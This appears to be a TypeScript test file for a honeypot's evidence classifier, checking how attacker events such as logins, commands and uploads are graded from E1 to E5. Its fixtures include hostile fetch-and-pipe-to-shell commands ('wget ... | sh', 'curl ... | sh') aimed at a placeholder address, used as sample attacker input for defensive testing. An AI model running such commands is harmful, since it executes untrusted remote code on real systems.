import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Body, type Event, handshakes, kinds, transports } from '../model/event.ts';
import { eventOf } from './event-fixture.ts';
import { createEvidence } from './evidence.ts';

const classOf = (event: Event) => {
  const evidence = createEvidence();
  evidence.observe(event);
  return evidence.classOf(event);
};

const bodies: Body[] = [
  { kind: 'connect' },
  { kind: 'login', user: 'a', secret: 'b', ok: true },
  { kind: 'command', input: 'wget http://192.0.2.1/x -O - | sh' },
  {
    kind: 'request',
    method: 'POST',
    target: '/',
    status: 200,
    headers: [],
    body: 'curl http://192.0.2.1/x | sh',
  },
  { kind: 'upload', sha256: '', size: 0 },
  { kind: 'download', url: 'http://192.0.2.1/x' },
  { kind: 'forward', host: 'a', port: 1 },
  { kind: 'fingerprint', method: 'hassh', value: 'x' },
  { kind: 'data', size: 1 },
  { kind: 'close', durationMs: 1 },
  { kind: 'flow', action: 'accept', packets: 1, size: 1 },
  { kind: 'access', method: 'GET', target: '/', status: 200, size: 1, agent: '' },
  { kind: 'answer', name: 'a', type: 'A', answers: [] },
  { kind: 'certificate', fingerprint: 'a1'.repeat(20) },
  { kind: 'api', service: 'a', action: 'b' },
];
const anyBody = fc.constantFrom(...bodies);
const anyHead = fc.record({
  decoy: fc.boolean(),
  protocol: fc.constantFrom('http', 'telnet', 'ssh', 'redis', 'dns'),
  transport: fc.constantFrom(...transports),
  dst: fc.record({ ip: fc.constant('198.51.100.1'), port: fc.constantFrom(0, 22, 23, 80, 2323, 6379, 8080) }),
});

describe('evidence', () => {
  it('covers every kind of event', () => {
    expect(bodies.map(({ kind }) => kind).sort()).toEqual([...kinds].sort());
  });

  it('is never above E1 where nothing proves the source, whatever it did', () => {
    fc.assert(
      fc.property(anyBody, anyHead, fc.constantFrom('none', 'relayed'), (body, head, handshake) => {
        const detail = { honeytoken: true };
        expect(classOf(eventOf({ ...body, detail } as Body, { ...head, handshake }) as Event) <= 'E1').toBe(
          true,
        );
      }),
    );
  });

  it('is never above E3 at a real host, but for a honeytoken', () => {
    fc.assert(
      fc.property(anyBody, anyHead, fc.constantFrom(...handshakes), (body, head, handshake) => {
        expect(classOf(eventOf(body, { ...head, decoy: false, handshake }) as Event) <= 'E3').toBe(true);
      }),
    );
  });

  it.each<[string, Body, object, string]>([
    ['a connection to a port that browsers refuse', { kind: 'connect' }, {}, 'E3'],
    [
      'a connection to one that they do not',
      { kind: 'connect' },
      { dst: { ip: '198.51.100.1', port: 2323 } },
      'E2',
    ],
    ['a login', { kind: 'login', user: 'a', secret: 'b', ok: false }, {}, 'E4'],
    ['a command', { kind: 'command', input: 'uname -a' }, {}, 'E4'],
    ['a command that downloads and runs', bodies[2]!, {}, 'E5'],
    ['an upload', { kind: 'upload', sha256: '', size: 1 }, {}, 'E5'],
    ['a download', { kind: 'download', url: 'http://192.0.2.1/x' }, {}, 'E4'],
    [
      'a honeytoken at a real host',
      { kind: 'api', service: 'a', action: 'b', detail: { honeytoken: true } },
      { decoy: false },
      'E5',
    ],
    [
      'a login at a real host',
      { kind: 'login', user: 'a', secret: '', ok: true },
      { decoy: false, handshake: 'authenticated' },
      'E3',
    ],
    ['a proven flow', { kind: 'flow', action: 'accept', packets: 9, size: 900 }, { decoy: false }, 'E2'],
    ['a DNS answer', { kind: 'answer', name: 'a', type: 'A', answers: [] }, {}, 'E1'],
    ['a certificate', { kind: 'certificate', fingerprint: 'a1'.repeat(20) }, {}, 'E1'],
  ])('at a decoy: %s', (_, body, head, evidence) => {
    expect(classOf(eventOf(body, head) as Event)).toBe(evidence);
  });
});

describe('what follows from a request', () => {
  const http = { protocol: 'http', dst: { ip: '198.51.100.1', port: 80 } };
  const agent = (value: string, more: [string, string][] = []): Body => ({
    kind: 'request',
    method: 'GET',
    target: '/',
    status: 200,
    headers: [['Host', '198.51.100.1'], ['User-Agent', value], ...more],
  });
  const tool = agent('curl/8.5.0');
  const browser = agent('Mozilla/5.0 (X11)', [['Accept-Language', 'en']]);
  const upload: Body = { kind: 'upload', sha256: '', size: 1 };
  const follows = (...requests: Body[]) => {
    const evidence = createEvidence();
    for (const body of requests) evidence.observe(eventOf(body, http) as Event);
    return evidence.classOf(eventOf(upload, http) as Event);
  };

  it('is worth no more than it', () => {
    expect(follows(tool)).toBe('E5');
    expect(follows(browser)).toBe('E2');
  });

  it('stays tainted by one request that a browser may have sent', () => {
    expect(follows(browser, tool)).toBe('E2');
    expect(follows(tool, browser, tool)).toBe('E2');
  });

  it('counts as a browser’s where no request was seen, or it was forgotten', () => {
    expect(follows()).toBe('E2');
    const evidence = createEvidence();
    evidence.observe(eventOf(tool, http) as Event);
    for (let n = 0; n < 100_000; n++) evidence.observe(eventOf(tool, { ...http, session: `x${n}` }) as Event);
    expect(evidence.classOf(eventOf(upload, http) as Event)).toBe('E2');
  });
});
